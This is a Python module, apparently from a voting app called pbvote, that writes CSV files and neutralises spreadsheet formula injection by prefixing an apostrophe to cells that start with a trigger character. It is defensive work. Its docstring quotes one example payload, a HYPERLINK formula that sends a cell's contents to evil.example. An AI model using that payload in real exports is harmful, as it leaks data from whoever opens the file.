"""Formula-safe CSV files: the one writer for every CSV pbvote hands out (voter codes, results, audit files).

Spreadsheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return)
as a formula, so a round or district named ``=HYPERLINK("https://evil.example/?"&A1)`` would turn a council's
download into an attack on whoever opens it. Every text cell that begins so gets a leading apostrophe, which
spreadsheets read as "this is text" (OWASP's advice for CSV injection). Numbers are written as they are: a
spreadsheet reads ``-5`` as minus five, not as a formula. This module is pure Python (no Flask), so anything
may use it.

Use :func:`csv_bytes` for a whole file in memory, or :func:`safe_writer` to stream rows into a text file::

    body = csv_bytes(["project", "cost"], [[project.name, project.cost] for project in projects])
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any, TextIO

#: The characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: The media type to serve these files with (Flask adds ``; charset=utf-8`` itself).
CSV_MIMETYPE = "text/csv"


def safe_cell(value: Any) -> str:
    """``value`` as the text of a CSV cell that no spreadsheet runs: None → ""; numbers unchanged; text that
    begins with a formula trigger gets a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # bool is an int: "True"/"False" start with no trigger
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


class SafeWriter:
    """A ``csv.writer`` that passes every cell through :func:`safe_cell` (rows end in CRLF, as RFC 4180 says)."""

    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream: TextIO) -> SafeWriter:
    """A formula-safe CSV writer on a text stream opened with ``newline=""`` (or an ``io.StringIO``)."""
    return SafeWriter(stream)


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole formula-safe CSV file, UTF-8 encoded: ``header`` then ``rows``."""
    buffer = io.StringIO()
    writer = safe_writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")
